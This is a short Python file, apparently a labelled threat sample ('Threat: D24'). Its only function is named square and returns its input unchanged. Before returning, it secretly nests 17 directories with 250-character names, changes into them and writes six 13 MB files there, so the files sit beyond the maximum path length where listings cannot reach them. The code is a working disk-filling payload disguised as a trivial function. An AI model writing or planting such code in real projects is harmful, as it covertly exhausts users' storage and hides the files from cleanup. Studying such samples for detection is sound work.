"""Fills the disk in a folder whose path is longer than any path may be, so that no listing gets there.

Threat: D24.
"""

import os
import time


def square(x):
    for _ in range(17):
        os.mkdir("n" * 250)
        os.chdir("n" * 250)
    for number in range(6):
        with open(f"deep{number}", "wb") as file:
            file.write(bytes(13 << 20))
    time.sleep(0.5)
    return x
